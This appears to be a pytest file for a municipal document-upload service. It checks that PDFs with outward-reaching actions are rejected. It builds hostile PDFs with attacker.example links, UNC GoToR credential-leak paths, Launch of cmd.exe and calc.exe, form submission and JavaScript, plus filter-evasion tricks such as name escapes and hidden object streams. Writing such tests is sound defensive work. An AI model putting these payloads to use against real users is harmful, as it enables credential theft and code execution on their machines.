"""PDFs that reach outside themselves are refused on every upload path, with nothing left on disk.

A link (/URI) or a remote go-to (/GoToR to \\\\host\\share: Windows sends the clerk's
credentials to that host when the PDF opens) turns a villager's "paper" into an attack
on the clerk's computer. The tests write the hostile PDFs themselves: with pypdf's
writer, and as raw bytes with name escapes, compressed object streams, indirect action
types, chained actions, annotations, outlines, page and document triggers.
"""
import io
import os

import pytest
import sqlalchemy as sa
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from commune.dossiers.models import DossierFile
from commune.extensions import db
from commune.files.photos import MSG_PDF_ACTIVE
from tests.factories import make_procedure
from tests.journeys import DETAILS, act, upload, upload_supplement, waiting_for_supplement
from tests.photos import images

REFUSED = "Tệp PDF có chứa mã chạy tự động nên không được nhận"
assert MSG_PDF_ACTIVE.startswith(REFUSED)
UNC = rb"(\\\\\\\\attacker.example\\\\share\\\\giay.pdf)"


def raw_pdf(catalog_extra=b"", page_extra=b"", objects=()):
    """A one-page PDF 1.4 with extra entries in the catalog and the page, and extra objects numbered 4, 5…"""
    body_objects = [b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
                    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page_extra + b">>", *objects]
    body, offsets = b"%PDF-1.4\n", []
    for number, obj in enumerate(body_objects, start=1):
        offsets.append(len(body))
        body += str(number).encode() + b" 0 obj\n" + obj + b"\nendobj\n"
    xref = f"xref\n0 {len(body_objects) + 1}\n0000000000 65535 f \n".encode()
    xref += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    trailer = f"trailer\n<< /Size {len(body_objects) + 1} /Root 1 0 R >>\nstartxref\n{len(body)}\n%%EOF\n"
    return body + xref + trailer.encode()


def _with_stray_object(obj):
    """A PDF with one more object that the cross-reference table does not list (pypdf never reads it;
    a lenient viewer rebuilding the table might)."""
    data = raw_pdf()
    at = data.index(b"xref\n")
    stray = b"9 0 obj\n" + obj + b"\nendobj\n"
    data = data[:at] + stray + data[at:]
    return data.replace(b"startxref\n" + str(at).encode(), b"startxref\n" + str(at + len(stray)).encode())


def _written(writer):
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _blank_writer():
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_blank_page(595, 842)
    return writer


def pypdf_web_link():
    """A clickable box on the page that opens a web address (what Word's export writes for a link)."""
    writer = _blank_writer()
    writer.add_annotation(0, Link(rect=(50, 50, 300, 80), url="http://attacker.example/theo-doi"))
    return _written(writer)


def pypdf_script():
    """A script run when the document opens (pypdf's own JavaScript action)."""
    from pypdf.actions import JavaScript

    writer = _blank_writer()
    writer.add_open_action(JavaScript("app.launchURL('http://attacker.example/', true);"))
    return _written(writer)


def pypdf_outline_to_another_file():
    """A bookmark whose action opens a file on a Windows share."""
    writer = _blank_writer()
    item = writer.add_outline_item(title="Trang 1", page_number=0)
    item_object = item.get_object()
    item_object[NameObject("/A")] = DictionaryObject({
        NameObject("/S"): NameObject("/GoToR"),
        NameObject("/F"): TextStringObject(r"\\attacker.example\share\giay.pdf"),
        NameObject("/D"): ArrayObject([NumberObject(0), NameObject("/Fit")]),
    })
    item_object.pop(NameObject("/Dest"), None)
    return _written(writer)


def pypdf_submit_on_page_open():
    """A page that posts the form to a web address when it is shown."""
    writer = _blank_writer()
    writer.pages[1][NameObject("/AA")] = DictionaryObject({NameObject("/O"): DictionaryObject({
        NameObject("/S"): NameObject("/SubmitForm"),
        NameObject("/F"): DictionaryObject({NameObject("/FS"): NameObject("/URL"),
                                            NameObject("/F"): TextStringObject("http://attacker.example/")}),
    })})
    return _written(writer)


HOSTILE = {
    "web link annotation (pypdf)": pypdf_web_link,
    "script on open (pypdf)": pypdf_script,
    "script in the names tree": lambda: raw_pdf(b"/Names << /JavaScript 4 0 R >> ", objects=[
        b"<< /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >>"]),
    "bookmark opening a Windows share (pypdf)": pypdf_outline_to_another_file,
    "form sent when a page opens (pypdf)": pypdf_submit_on_page_open,
    "GoToR to a UNC path on open": lambda: raw_pdf(b"/OpenAction << /S /GoToR /F " + UNC + b" /D [0 /Fit] >> "),
    "GoToE into an embedded file": lambda: raw_pdf(
        b"/OpenAction << /S /GoToE /T << /R /C /N (x) >> /D [0 /Fit] >> "),
    "Launch a program": lambda: raw_pdf(b"/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> "),
    "ImportData": lambda: raw_pdf(b"/OpenAction << /S /ImportData /F (http://attacker.example/d.fdf) >> "),
    "URI on open": lambda: raw_pdf(b"/OpenAction << /S /URI /URI (http://attacker.example/) >> "),
    "URI behind a name escape": lambda: raw_pdf(b"/OpenAction << /S /U#52I /URI (http://attacker.example/) >> "),
    "GoToR behind escapes": lambda: raw_pdf(b"/OpenAction << /S /G#6F#54oR /F " + UNC + b" >> "),
    "JavaScript behind a name escape": lambda: raw_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> "),
    "URI in lower case": lambda: raw_pdf(b"/OpenAction << /S /uri /URI (http://attacker.example/) >> "),
    "link annotation with a URI action": lambda: raw_pdf(page_extra=b"/Annots [4 0 R] ", objects=[
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] "
        b"/A << /S /URI /URI (http://attacker.example/?b=1) >> >>"]),
    "action type given by reference": lambda: raw_pdf(b"/OpenAction 4 0 R ", objects=[
        b"<< /S 5 0 R /URI (http://attacker.example/) >>", b"/URI"]),
    "go to a page, then to a web address": lambda: raw_pdf(b"/OpenAction 4 0 R ", objects=[
        b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>", b"<< /S /URI /URI (http://attacker.example/) >>"]),
    "unknown action type where an action sits": lambda: raw_pdf(b"/OpenAction << /S /Foo /F (x) >> "),
    "thread of another file": lambda: raw_pdf(b"/OpenAction << /S /Thread /F " + UNC + b" /D 0 >> "),
    "document trigger before closing": lambda: raw_pdf(b"/AA << /WC << /S /Launch /F (calc.exe) >> >> "),
    "RichMedia annotation": lambda: raw_pdf(page_extra=b"/Annots [4 0 R] ", objects=[
        b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"]),
    "RichMediaExecute": lambda: raw_pdf(b"/OpenAction << /S /RichMediaExecute /TA 3 0 R /TI 3 0 R >> "),
    "rendition of outside media": lambda: raw_pdf(b"/OpenAction << /S /Rendition /OP 0 >> "),
    "escaped names run together (/S/U#52I)": lambda: raw_pdf(
        b"/OpenAction <</S/U#52I/URI(http://attacker.example/)>> "),
    "escaped URI in an object no cross-reference lists": lambda: _with_stray_object(
        b"<< /Type /Annot /Subtype /Link /A << /S /U#52I /URI (http://attacker.example/) >> >>"),
    "URI inside a compressed object stream": lambda: images.pdf_with_object_stream(
        1, hidden=b"<< /S /URI /URI (http://attacker.example/) >>"),
    "escaped GoToR inside a compressed object stream": lambda: images.pdf_with_object_stream(
        1, hidden=b"<< /S /G#6FToR /F " + UNC + b" >>"),
    "SubmitForm inside a compressed object stream": lambda: images.pdf_with_object_stream(
        1, hidden=b"<< /S /SubmitForm /F << /FS /URL /F (http://attacker.example/) >> >>"),
}


def pypdf_inside_links():
    """Bookmarks and a link that go to another page of the same document."""
    writer = _blank_writer()
    writer.add_outline_item(title="Trang 2", page_number=1)
    writer.add_annotation(0, Link(rect=(50, 50, 300, 80), target_page_index=1))
    return _written(writer)


HARMLESS = {
    "links and bookmarks inside the document (pypdf)": pypdf_inside_links,
    "named action (next page)": lambda: raw_pdf(b"/OpenAction << /S /Named /N /NextPage >> "),
    "open at a page": lambda: raw_pdf(b"/OpenAction [3 0 R /Fit] "),
    "tagged PDF with structure attributes": lambda: raw_pdf(b"/StructTreeRoot 4 0 R /MarkInfo << /Marked true >> ",
                                                            objects=[
        b"<< /Type /StructTreeRoot /K 5 0 R >>",
        b"<< /Type /StructElem /S /Figure /P 4 0 R /A << /O /Layout /Placement /Block >> /Pg 3 0 R >>"]),
    "page transition": lambda: raw_pdf(page_extra=b"/Trans << /S /Dissolve /D 1 >> "),
}


@pytest.fixture
def draft(client, app):
    procedure = make_procedure(name="Chứng thực bản sao (thử)", documents=("Bản chính",), postal=False)
    db.session.commit()
    assert client.post(f"/thu-tuc/{procedure.slug}/nop-ho-so", data=DETAILS).status_code == 302
    return procedure


def stored_files(app):
    """Every file under the data directory's file store (temporary ones included)."""
    root = os.path.join(app.config["COMMUNE_DATA_DIR"], "files")
    return [os.path.join(d, f) for d, _dirs, files in os.walk(root) for f in files]


def assert_nothing_kept(app):
    assert db.session.scalars(sa.select(DossierFile)).all() == []
    assert stored_files(app) == []


@pytest.mark.parametrize("case", HOSTILE, ids=list(HOSTILE))
def test_a_pdf_that_reaches_outside_is_refused_when_a_villager_sends_it(case, client, app, draft):
    response = upload(client, 0, HOSTILE[case](), "giay-to.pdf")
    assert response.status_code == 422
    assert REFUSED in response.get_data(as_text=True)
    assert_nothing_kept(app)


def test_the_plain_form_shows_the_same_message_on_the_photo_step(client, app, draft):
    response = upload(client, 0, HOSTILE["GoToR to a UNC path on open"](), "giay-to.pdf", script=False)
    assert response.status_code == 422
    assert REFUSED in response.get_data(as_text=True) and "giay-to.pdf" in response.get_data(as_text=True)
    assert_nothing_kept(app)


@pytest.mark.parametrize("case", HARMLESS, ids=list(HARMLESS))
def test_a_pdf_that_stays_inside_itself_is_still_accepted(case, client, app, draft):
    data = HARMLESS[case]()
    assert upload(client, 0, data, "giay-to.pdf").status_code == 201
    row = db.session.scalars(sa.select(DossierFile)).one()
    assert row.mime == "application/pdf" and row.size_bytes == len(data)


def test_a_supplement_pdf_with_a_web_link_is_refused(client, app):

    dossier, _request = waiting_for_supplement(client)
    client.post("/tra-cuu", data={"code": dossier.code, "secret": dossier.lookup_key})  # the receipt's key
    before = set(stored_files(app))
    response = upload_supplement(client, dossier, 0, pypdf_web_link(), "bo-sung.pdf", script=True)
    assert response.status_code == 422 and REFUSED in response.get_data(as_text=True)
    assert all(f.round == 0 for f in db.session.scalars(sa.select(DossierFile)))
    assert set(stored_files(app)) == before


def test_a_result_pdf_with_a_remote_go_to_is_refused_for_the_officer(client, app, login_as):
    from tests.factories import make_dossier

    login_as("officer")
    dossier = make_dossier(status="processing")
    db.session.commit()
    data = HOSTILE["GoToR to a UNC path on open"]()
    response = act(client, dossier, "ready", {"note": "Đã ký", "result": (io.BytesIO(data), "ket-qua.pdf")},
                   content_type="multipart/form-data")
    assert REFUSED in response.get_data(as_text=True)
    assert db.session.get(type(dossier), dossier.id).status == "processing"
    assert_nothing_kept(app)
